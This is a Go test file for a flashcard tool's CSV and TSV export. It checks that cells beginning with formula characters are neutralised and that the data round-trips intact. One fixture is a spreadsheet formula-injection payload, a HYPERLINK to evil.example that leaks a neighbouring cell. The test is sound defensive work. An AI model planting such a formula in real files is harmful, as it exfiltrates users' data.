package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/lectern/lectern/quizzes"
)

// lectern export --format csv|tsv writes a cell that starts with a formula
// character as text (a single quote in front), and lectern convert reads
// the export back to the very text that was imported.
func TestExportCSVAndTSVNeutraliseFormulas(t *testing.T) {
	db := freshDB(t)
	dir := t.TempDir()
	texts := map[string]string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Open")`: "a link that leaks the next cell",
		"@SUM(1+1)":         "a function call",
		"2 minus 7 equals?": "-5",
		"+7 800 555 35 35":  "a telephone number",
	}
	var in strings.Builder
	w := csv.NewWriter(&in)
	for front, back := range texts {
		w.Write([]string{front, back})
	}
	w.Flush()
	cards := writeFile(t, dir, "cards.csv", in.String())
	if _, errs, err := lectern(t, db, nil, "import", cards, "--course", "china-russia", "--theme", "energy", "--publish"); err != nil {
		t.Fatalf("import: %v\n%s", err, errs)
	}
	for _, format := range []string{"csv", "tsv"} {
		out, _, err := lectern(t, db, nil, "export", "--course", "china-russia", "--format", format)
		if err != nil {
			t.Fatal(err)
		}
		sep := ","
		if format == "tsv" {
			sep = "\t"
		}
		for line := range strings.SplitSeq(out, "\n") {
			for cell := range strings.SplitSeq(line, sep) {
				if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("%s: cell %q starts with a formula character", format, cell)
				}
			}
		}
		path := writeFile(t, dir, "export."+format, out)
		js, errs, err := lectern(t, db, nil, "convert", path, "--to", "json")
		if err != nil {
			t.Fatalf("convert: %v\n%s", err, errs)
		}
		c, err := quizzes.Decode([]byte(js))
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, cd := range c.Cards {
			got[cd.Front] = cd.Back
		}
		for front, back := range texts {
			if got[front] != back {
				t.Errorf("%s read back: %q → %q, want %q", format, front, got[front], back)
			}
		}
	}
}
